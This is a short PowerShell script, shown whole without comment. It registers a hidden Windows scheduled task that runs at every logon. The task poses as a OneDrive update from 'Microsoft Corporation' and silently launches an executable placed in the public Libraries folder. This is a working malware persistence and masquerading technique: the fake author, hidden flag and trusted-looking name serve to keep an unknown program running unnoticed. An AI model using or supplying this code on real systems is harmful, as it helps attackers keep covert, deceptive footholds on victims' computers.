$svc = New-Object -ComObject Schedule.Service
$svc.Connect()
$def = $svc.NewTask(0)
$def.RegistrationInfo.Author = 'Microsoft Corporation'
$def.Settings.Hidden = $true
$def.Settings.DisallowStartIfOnBatteries = $false
$trg = $def.Triggers.Create(9)
$act = $def.Actions.Create(0)
$act.Path = 'C:\Users\Public\Libraries\OneDriveUpdater.exe'
$act.Arguments = '/silent'
$folder = $svc.GetFolder('\')
$folder.RegisterTaskDefinition('OneDrive Standalone Update Task', $def, 6, $null, $null, 3) | Out-Null
